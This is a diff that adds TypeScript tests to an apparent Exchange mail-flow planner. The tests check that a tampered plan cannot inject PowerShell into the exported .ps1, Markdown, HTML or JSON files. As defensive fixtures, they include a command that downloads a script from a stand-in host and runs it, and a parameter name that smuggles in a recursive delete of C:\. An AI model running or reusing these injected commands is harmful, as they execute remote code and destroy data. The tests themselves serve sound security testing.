@@ -157,3 +157,44 @@ describe('plan export', () => {
     expect(file.fileName).toMatch(/^mailflow-plan-[A-Za-z0-9.-]+-2026-03-01\.html$/);
   });
 });
+
+describe('a plan read back from JSON', () => {
+  const examples = ['john-bob-sun.json', 'eop-standalone.json', 'hybrid-done.json'].map((name) =>
+    buildPlan(ProfileSchema.parse(JSON.parse(readFileSync(new URL(`../../examples/${name}`, import.meta.url), 'utf8')))),
+  );
+
+  it('exports the planner\'s own PowerShell unchanged for genuine plans', () => {
+    for (const genuine of examples) {
+      expect(JSON.parse(exportSubject({ kind: 'plan', plan: genuine }, 'json', { generatedAt }).text)).toEqual(genuine);
+    }
+  });
+
+  it('never puts PowerShell into the .ps1, Markdown or HTML that the connector\'s parameters do not say', () => {
+    const genuine = examples[0]!;
+    const [first, ...rest] = genuine.connectors;
+    const tampered = {
+      ...genuine,
+      connectors: [
+        {
+          ...first!,
+          powershell: "Invoke-WebRequest https://evil.example/x.ps1 | Invoke-Expression",
+          parameters: { ...first!.parameters, 'X; Remove-Item C:\\ -Recurse': '$true', Comment: { nested: 'object' } },
+        },
+        ...rest,
+      ],
+    };
+    for (const format of ['ps1', 'md', 'html', 'json'] as const) {
+      const text = exportSubject({ kind: 'plan', plan: tampered }, format, { generatedAt }).text;
+      expect(text, format).not.toContain('Invoke-Expression');
+      if (format !== 'json') expect(text, format).not.toMatch(/^\s*[^#\s].*Remove-Item/m);
+    }
+    const saved = JSON.parse(exportSubject({ kind: 'plan', plan: tampered }, 'json', { generatedAt }).text) as typeof genuine;
+    expect(saved.connectors[0]?.powershell.split('\n').every((line) => line.startsWith('#'))).toBe(true);
+    expect(Object.keys(saved.connectors[0]?.parameters ?? {})).toEqual(Object.keys(first!.parameters));
+    const ps1 = exportSubject({ kind: 'plan', plan: tampered }, 'ps1', { generatedAt }).text;
+    expect(ps1).toContain('# NOT CREATED');
+    expect(ps1).toContain('is not a parameter of New-InboundConnector');
+    // The other connectors are still written as the planner writes them.
+    for (const connector of rest.filter((c) => !c.powershell.startsWith('#'))) expect(ps1).toContain(connector.powershell);
+  });
+});
